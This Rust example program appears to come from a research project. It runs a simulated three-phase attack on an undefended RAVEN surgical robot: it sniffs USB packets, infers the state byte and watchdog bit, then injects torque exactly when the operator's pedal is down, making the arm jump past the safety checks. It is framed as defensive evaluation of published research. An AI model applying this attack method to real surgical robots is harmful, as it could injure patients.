//! End-to-end attack demo (defensive evaluation): the three-phase malware
//! of the paper's Fig. 3 against the *undefended* robot.
//!
//! 1. Preparation — eavesdrop on the USB write path during a victim session;
//! 2. Offline analysis — recover the state byte, watchdog bit, and the
//!    Pedal-Down trigger values from raw bytes alone;
//! 3. Deployment — self-triggered torque injection exactly when the robot
//!    is operating, causing an abrupt jump of the arm.
//!
//! ```sh
//! cargo run --release --example attack_demo
//! ```

#![cfg_attr(not(test), deny(clippy::float_cmp))]

use raven_attack::{
    find_state_byte, ActivationWindow, Corruption, InjectionWrapper, LoggingWrapper,
};
use raven_core::{SimConfig, Simulation, Workload};

fn main() {
    // ---- Phase 1: Preparation — capture a victim session. ----------------
    println!("[phase 1] installing logging wrapper; victim runs a session …");
    let mut sim = Simulation::new(SimConfig {
        workload: Workload::Suturing,
        session_ms: 4_000,
        pedal: raven_core::sim::PedalPattern::DutyCycle { work_ms: 900, rest_ms: 300, cycles: 3 },
        ..SimConfig::standard(7)
    });
    sim.rig_mut().channel.install_first(LoggingWrapper::new());
    sim.boot();
    let _ = sim.run_session();
    let capture = sim.rig().channel.interceptor::<LoggingWrapper>().expect("installed").capture();
    println!("          captured {} USB packets", capture.len());

    // ---- Phase 2: Offline analysis. ---------------------------------------
    println!("[phase 2] analyzing capture byte-by-byte …");
    let hypothesis = find_state_byte(capture).expect("state byte discoverable");
    println!(
        "          state byte at offset {}, watchdog mask {:#04x}, states {:02X?}",
        hypothesis.offset,
        hypothesis.watchdog_mask.unwrap_or(0),
        hypothesis.state_values
    );
    let triggers = hypothesis.trigger_values();
    println!("          derived Pedal-Down trigger values: {triggers:02X?}");

    // ---- Phase 3: Deployment against a fresh victim session. --------------
    println!("[phase 3] deploying self-triggered injection (+30000 DAC counts, 256 ms) …");
    let mut victim = Simulation::new(SimConfig {
        workload: Workload::Circle,
        session_ms: 4_000,
        ..SimConfig::standard(8)
    });
    victim.rig_mut().channel.install_first(InjectionWrapper::with_trigger(
        triggers,
        Corruption::AddDacWord { channel: 0, delta: 30_000 },
        ActivationWindow::delayed(400, 256),
    ));
    victim.boot();
    let outcome = victim.run_session();

    println!("\nvictim outcome:");
    println!("  injections delivered : {}", outcome.injections);
    println!("  max EE step (2 ms)   : {:.3} mm", outcome.max_ee_step_2ms * 1e3);
    println!("  adverse impact       : {}", outcome.adverse);
    println!("  RAVEN stock detection: {}", outcome.raven_detected);
    println!("  E-STOP               : {:?}", outcome.estop);
    assert!(outcome.injections > 0, "the trigger must have fired");
    println!(
        "\nthe injection fired only in Pedal Down, passed the (already-run) software \
         safety checks, and moved the arm {:.1} mm within 2 ms.",
        outcome.max_ee_step_2ms * 1e3
    );
}
